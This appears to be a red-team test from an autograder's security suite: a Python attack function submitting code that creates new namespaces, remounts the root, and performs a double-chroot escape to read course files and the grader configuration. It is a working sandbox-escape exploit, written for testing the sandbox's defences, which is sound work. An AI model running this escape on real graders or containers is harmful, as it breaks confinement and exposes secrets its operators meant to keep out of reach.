"""An escape from the root: chroot again inside it and climb above it, or mount the machine's disks.

Success: any canary.
"""

from tests.red_team.submission import READ


def attack(submission):
    submission.first(
        READ
        + """
import ctypes, os
libc = ctypes.CDLL(None)
pid = os.fork()
if pid == 0:
    try:
        libc.unshare(0x10000000 | 0x20000)
        os.makedirs("cell", exist_ok=True)
        libc.mount(b"proc", b"cell", b"proc", 0, None)
        libc.mount(b"/", b"cell", None, 4096 | 16384, None)
        libc.umount2(b"/", 2)
        libc.umount2(b"/tmp", 2)
        os.chroot("cell")
        for _ in range(50):
            os.chdir("..")
        os.chroot(".")
        read("srv/course/*", "etc/grader.conf", "/old/srv/course/*", "/cell/srv/course/*")
    except OSError as error:
        print(error)
    finally:
        os._exit(0)
os.waitpid(pid, 0)
"""
    )
